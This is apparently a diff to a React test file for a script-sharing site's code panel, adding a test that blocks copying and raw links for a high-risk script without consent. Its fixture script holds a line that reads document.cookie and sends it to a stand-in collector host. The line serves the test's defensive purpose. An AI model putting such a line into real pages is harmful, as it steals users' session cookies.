@@ -4,6 +4,7 @@ import { createTestHost, Surroundings, visitor } from "@scriptorium/remote-kit/h
 import { act, cleanup, fireEvent, render, screen } from "@testing-library/react";
 import { afterEach, beforeEach, expect, it, vi } from "vitest";
 import { leak, reportRows } from "../../script-security/analysis.test-support.ts";
+import type { Analysis } from "../../script-security/analysis.ts";
 import { CodeSection } from "./code-section.tsx";
 
 const copied: string[] = [];
@@ -26,10 +27,12 @@ const script = {
 	title: "Table to CSV",
 	code: "one();\nconst a = document.cookie;\nfetch('https://collector.example/' + a);",
 	versionId: "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
+	riskLevel: "amber" as const,
 };
+const doubtful: Analysis = { ...leak, risk_level: "amber", score: 60 };
 
-function open(at = "/ada/table-to-csv", code = script.code) {
-	const test = createTestHost(visitor, async () => Response.json(reportRows(leak)));
+function open(at = "/ada/table-to-csv", code = script.code, analysis = doubtful) {
+	const test = createTestHost(visitor, async () => Response.json(reportRows(analysis)));
 	const { container } = render(
 		<Surroundings host={test.host} at={at}>
 			<CodeSection script={{ ...script, code }} onCopied={() => undefined} />
@@ -43,6 +46,15 @@ const editor = (container: Element) =>
 		if (!root) throw new Error("no editor yet");
 		return root;
 	});
+
+it("hands out neither text nor file of a High Risk version without consent", async () => {
+	open(undefined, undefined, leak);
+	const copy = screen.getByRole<HTMLButtonElement>("button", { name: "Copy the code of Table to CSV" });
+	await vi.waitFor(() => expect(copy.disabled).toBe(true));
+	expect(screen.queryByRole("link", { name: "Raw code of Table to CSV" })).toBeNull();
+	fireEvent.click(copy);
+	expect(copied).toEqual([]);
+});
 
 it("copies the code and says so for two seconds", async () => {
 	const { notices } = open();
